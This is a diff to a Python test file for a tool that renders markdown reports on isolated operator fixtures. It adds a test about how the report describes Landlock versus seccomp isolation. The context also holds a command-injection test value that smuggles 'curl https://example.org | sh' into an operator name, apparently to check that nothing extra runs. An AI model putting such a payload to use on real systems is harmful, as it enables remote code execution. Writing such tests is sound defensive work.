@@ -136,6 +136,13 @@ def test_no_line_is_a_workflow_command(text: str) -> None:
     assert not any(line.lstrip().startswith("::") for line in markdown.split("\n") if "```" not in markdown)
 
 
+@pytest.mark.parametrize(("isolation", "told"), [(("Landlock",), 0), (("seccomp",), 1)])
+def test_a_system_that_limits_no_writing_is_told(isolation: tuple[str, ...], told: int) -> None:
+    result = replace(publication("x").result, isolation=isolation)
+    markdown = result_markdown(Publication(HEAD, result), 10**6)
+    assert markdown.count("did not limit what fixture modules write") == told
+
+
 def test_a_command_runs_nothing_but_opfixtures() -> None:
     operator = "aten::gelu'; curl https://example.org | sh; '"
     row = replace(publication("x").result.fixtures[0], operator=operator)
